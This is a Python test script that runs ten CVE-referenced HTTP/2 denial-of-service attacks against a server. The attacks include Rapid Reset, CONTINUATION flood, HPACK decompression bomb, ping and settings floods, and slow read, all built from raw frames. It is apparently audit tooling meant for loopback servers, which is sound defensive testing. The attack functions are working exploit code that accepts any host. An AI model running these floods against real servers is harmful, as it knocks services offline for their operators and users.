#!/usr/bin/python3
"""One HTTP/2 attack against a server on loopback, as raw frames over a socket (hyperframe +
hpack), bounded in frames and seconds. Used by record_attacks.sh; see tests/audit/README.md.

usage: attack_client.py ATTACK HOST PORT
"""
import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, DEADLINE_S = 0x8, 20.0


class Connection:
    """A client connection that answers the server's SETTINGS and PINGs from a reader thread,
    so the server never waits on us (what it sends back is what the capture shows)."""

    def __init__(self, host, port, settings=None):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.lock = threading.Lock()
        self.closed = False
        self.server_settings = threading.Event()
        self.frames_in = {}
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        self.server_settings.wait(2)

    def send(self, data):
        with self.lock:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def _read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                break
            if not chunk:
                break
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + length:
                    break
                frame, _ = Frame.parse_frame_header(memoryview(buf[:9]))
                frame.parse_body(memoryview(buf[9:9 + length]))
                buf = buf[9 + length:]
                self.frames_in[frame.type] = self.frames_in.get(frame.type, 0) + 1
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                    self.server_settings.set()
        self.closed = True

    def headers(self, stream, headers, end_stream=True, end_headers=True):
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream, self.encoder.encode(headers), flags=flags).serialize()

    def finish(self, linger=0.5):
        time.sleep(linger)
        try:
            self.sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        time.sleep(0.2)
        self.sock.close()
        names = {0x0: "DATA", 0x1: "HEADERS", 0x3: "RST_STREAM", 0x4: "SETTINGS", 0x6: "PING",
                 0x7: "GOAWAY", 0x8: "WINDOW_UPDATE"}
        got = ", ".join(f"{names.get(t, t)} x{n}" for t, n in sorted(self.frames_in.items()))
        print(f"server sent: {got or 'nothing'}", file=sys.stderr)


def request(authority, path="/", method="GET"):
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]


def rapid_reset(c, authority):
    # CVE-2023-44487: open a stream and cancel it at once, 1000 times in batches of 50.
    stream = 1
    for _ in range(20):
        batch = b""
        for _ in range(50):
            batch += c.headers(stream, request(authority))
            batch += RstStreamFrame(stream, error_code=CANCEL).serialize()
            stream += 2
        c.send(batch)
        time.sleep(0.01)


def continuation_flood(c, authority):
    # CVE-2024-27316: one header block that never ends, 3000 CONTINUATION frames of 16 bytes.
    block = c.encoder.encode(request(authority))
    c.send(HeadersFrame(1, block).serialize())
    chunk = b""
    for i in range(3000):
        chunk += ContinuationFrame(1, b"\x40\x05x-pad\x07" + b"%07d" % i).serialize()
        if i % 100 == 99:
            c.send(chunk)
            chunk = b""
            time.sleep(0.005)
    c.send(chunk)


def hpack_bomb(c, authority):
    # CVE-2016-6581: one 4000-byte entry in the dynamic table, then header blocks of 1-byte
    # references to it: 4000 wire bytes decode to 16 MB. 20 such requests.
    big = "a" * 4000
    first = c.encoder.encode(request(authority) + [("x-bomb", big)])
    c.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    # The 4038-byte entry fills the default 4096-byte table alone: index 62. The request's
    # fields are static references and a literal without indexing, so nothing evicts it.
    auth = authority.encode()
    head = b"\x82\x86\x84\x01" + bytes([len(auth)]) + auth
    stream = 3
    for _ in range(20):
        block = head + b"\xbe" * 4000
        c.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        stream += 2
        time.sleep(0.01)


def settings_flood(c, authority):
    # CVE-2019-9515: 1000 SETTINGS frames, each one the server must acknowledge.
    for _ in range(10):
        c.send(b"".join(SettingsFrame(0, {0x4: 65535}).serialize() for _ in range(100)))
        time.sleep(0.01)


def ping_flood(c, authority):
    # CVE-2019-9512: 1000 PINGs, each one the server must answer.
    for i in range(10):
        c.send(b"".join(PingFrame(0, (i * 100 + j).to_bytes(8, "big")).serialize()
                        for j in range(100)))
        time.sleep(0.01)


def empty_frames(c, authority):
    # CVE-2019-9518: a POST whose body is 1000 empty DATA frames without END_STREAM.
    c.send(c.headers(1, request(authority, method="POST"), end_stream=False))
    for _ in range(10):
        c.send(b"".join(DataFrame(1, b"").serialize() for _ in range(100)))
        time.sleep(0.01)
    c.send(DataFrame(1, b"", flags=["END_STREAM"]).serialize())


def reset_flood(c, authority):
    # CVE-2019-9514: 500 malformed requests (an uppercase field name, RFC 9113 §8.2.1), each of
    # which the server answers with RST_STREAM(PROTOCOL_ERROR).
    stream = 1
    for _ in range(10):
        batch = b""
        for _ in range(50):
            batch += c.headers(stream, request(authority) + [("X-Upper", "1")])
            stream += 2
        c.send(batch)
        time.sleep(0.01)


def slow_read(c, authority):
    # CVE-2019-9511/9517: a zero window on a 1 MB response, opened 16 bytes every 0.2 s for
    # 11 s: the server waits with data to send the whole time.
    c.send(c.headers(1, request(authority, "/1m.bin")))
    end = time.time() + 11
    while time.time() < end and not c.closed:
        time.sleep(0.2)
        c.send(WindowUpdateFrame(1, 16).serialize() + WindowUpdateFrame(0, 16).serialize())


def priority_churn(c, authority):
    # CVE-2019-9513: 1000 PRIORITY frames reshaping the tree of 10 idle streams.
    for i in range(10):
        batch = b""
        for j in range(100):
            stream = 2 * ((i * 100 + j) % 10) + 1
            parent = 2 * ((i * 100 + j + 3) % 10) + 1
            batch += PriorityFrame(stream, depends_on=parent, stream_weight=j % 256,
                                   exclusive=bool(j % 2)).serialize()
        c.send(batch)
        time.sleep(0.01)


def stream_limit(c, authority):
    # RFC 9113 §5.1.2: 30 POST streams left open against a server that allows 10.
    c.send(b"".join(c.headers(2 * i + 1, request(authority, method="POST"), end_stream=False)
                    for i in range(30)))
    time.sleep(0.3)
    c.send(b"".join(DataFrame(2 * i + 1, b"x", flags=["END_STREAM"]).serialize()
                    for i in range(30)))


ATTACKS = {
    "rapid-reset": (rapid_reset, {}),
    "continuation-flood": (continuation_flood, {}),
    "hpack-bomb": (hpack_bomb, {}),
    "settings-flood": (settings_flood, {}),
    "ping-flood": (ping_flood, {}),
    "empty-frames": (empty_frames, {}),
    "reset-flood": (reset_flood, {}),
    "slow-read": (slow_read, {0x4: 0}),  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    "priority-churn": (priority_churn, {}),
    "stream-limit": (stream_limit, {}),
}


def main():
    if len(sys.argv) != 4 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: {sys.argv[0]} {{{'|'.join(ATTACKS)}}} HOST PORT")
    name, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    attack, settings = ATTACKS[name]
    timer = threading.Timer(DEADLINE_S, lambda: sys.exit("deadline"))
    timer.daemon = True
    timer.start()
    c = Connection(host, port, settings)
    attack(c, f"{host}:{port}")
    c.finish()


if __name__ == "__main__":
    main()
